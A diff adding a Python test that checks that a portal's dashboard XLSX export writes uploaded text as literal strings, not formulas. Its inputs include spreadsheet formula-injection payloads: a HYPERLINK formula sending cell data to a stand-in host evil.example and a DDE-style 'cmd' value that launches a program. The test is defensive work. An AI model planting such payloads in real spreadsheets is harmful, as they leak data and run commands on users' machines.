@@ -1,0 +1,35 @@
+"""The dashboard's XLSX: a text from an upload is stored as a literal string, never as a formula."""
+
+from __future__ import annotations
+
+import io
+
+from openpyxl import load_workbook
+
+from services.portal.export import dashboard_xlsx
+
+HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Подробнее")'
+
+
+def test_texts_that_look_like_formulas_are_exported_as_strings() -> None:
+    figures = {"kpis": [{"title": "Доля обучающихся 10–19 лет", "value": 0.5, "target": 0.7,
+                         "numerator": 5, "denominator": 10, "met": False}],
+               "mentees": {"total": 5}}
+    children = [{"name": "+cmd|' /C calc'!A0", "kind": "school", "kpi": None,
+                 "figures": {"mentees": 3, "mentors": 1}, "late": 1}]
+    overdue = [{"organisation": "@SUM(1+1)", "roadmap_title": "-2+3",
+                "activity": HOSTILE, "deadline_text": "\tдо 01.10.2025\x0b"}]
+    content = dashboard_xlsx({"name": "=1+1"}, figures, children, overdue, {"school": "школа"})
+
+    book = load_workbook(io.BytesIO(content))
+    late = book["Просрочено"]
+    activity = late["C2"]
+    assert activity.data_type == "s" and activity.value == HOSTILE
+    assert [c.data_type for c in late[2]] == ["s"] * 4
+    assert [c.value for c in late[2]] == ["@SUM(1+1)", "-2+3", HOSTILE, "\tдо 01.10.2025"]
+    assert book["Показатели"]["A1"].data_type == "s" and book["Показатели"]["A1"].value == "=1+1"
+    assert book["Рейтинг"]["B2"].data_type == "s"
+    # no cell anywhere is a formula; numbers stay numbers
+    assert not [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert book["Рейтинг"]["E2"].value == 3 and book["Рейтинг"]["E2"].data_type == "n"
+    assert book["Показатели"]["B4"].value == 50
